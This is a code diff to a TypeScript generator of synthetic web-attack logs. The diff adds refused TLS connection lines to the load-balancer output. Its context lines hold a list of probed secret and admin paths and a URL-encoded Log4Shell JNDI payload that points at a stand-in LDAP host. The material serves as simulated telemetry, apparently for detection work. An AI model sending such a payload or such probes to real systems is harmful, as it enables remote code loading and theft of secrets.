@@ -1,5 +1,5 @@
 import { MINUTE_MS } from '../clock.ts'
-import { albLine } from '../sources/alb-line.ts'
+import { albLine, connectionLine } from '../sources/alb-line.ts'
 import type { LogLine } from '../sources/line-log.ts'
 import { wafLine } from '../sources/waf-line.ts'
 import type { WebRequest } from '../sources/web-requests.ts'
@@ -19,6 +19,7 @@ const EXTENSION_RULE = {
   data: '.config',
 } as const
 
+const OLD_TLS_TRIES = 4
 const SEARCHED = ['/.env', '/.git/config', '/wp-login.php', '/actuator/env', '/manager/html', '/phpmyadmin/'] as const
 /** What the web ACL stops, and how it was written in the end: a form that the rules did not know. */
 const STOPPED_QUERY = 'q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.77%2Fa%7D'
@@ -65,8 +66,17 @@ export function storyWeb(plot: Plot): { alb: LogLine[]; waf: LogLine[] } {
   const { region } = plot.region
   return {
     waf: lines.map(({ waf, time }) => ({ time, region, line: waf })),
-    alb: lines.map(({ alb, time }) => ({ time: time + 40, region, line: alb })),
+    alb: [...lines.map(({ alb, time }) => ({ time: time + 40, region, line: alb })), ...refusedConnections(plot)],
   }
+}
+
+/** Before it asks for anything, the search tries which old forms of TLS are let in: none. */
+function refusedConnections({ at, attacker, region }: Plot): LogLine[] {
+  return Array.from({ length: OLD_TLS_TRIES }, (_, index) => {
+    const time = at.probed + 2 * MINUTE_MS + index * 1_500
+    const line = connectionLine(time, attacker.address, 41_000 + index, '- - -', 'Failed:UnmappedConnectionError')
+    return { time, region: region.region, line, kind: 'connection' }
+  })
 }
 
 function requestOf({ attacker }: Plot, path: string, query: string, blocked: boolean): WebRequest {
